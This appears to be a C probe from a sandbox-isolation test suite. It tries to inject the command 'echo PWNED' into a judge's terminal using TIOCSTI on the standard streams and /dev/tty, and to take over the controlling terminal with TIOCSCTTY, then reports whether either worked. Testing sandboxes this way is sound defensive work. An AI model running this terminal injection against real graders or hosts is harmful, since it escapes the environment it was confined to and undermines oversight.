/* Pushes a command into the judge's terminal: TIOCSTI on its standard
 * streams and on /dev/tty, and the controlling terminal taken over with
 * TIOCSCTTY. Any that works is PWNED. */
#include "common.h"
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void inject(int fd, const char *what) {
    const char *cmd = "echo PWNED\n";
    for (const char *c = cmd; *c; c++)
        if (ioctl(fd, TIOCSTI, c) != 0) return;
    printf("PWNED injected into %s\n", what);
    pwned = 1;
}

int main(void) {
    read_token();
    inject(0, "stdin");
    inject(1, "stdout");
    inject(2, "stderr");
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty >= 0) {
        inject(tty, "/dev/tty");
        close(tty);
    }
    for (int fd = 0; fd < 3; fd++)
        if (ioctl(fd, TIOCSCTTY, 1) == 0) {
            printf("PWNED took a terminal on %d\n", fd);
            pwned = 1;
        }
    report();
    return 0;
}
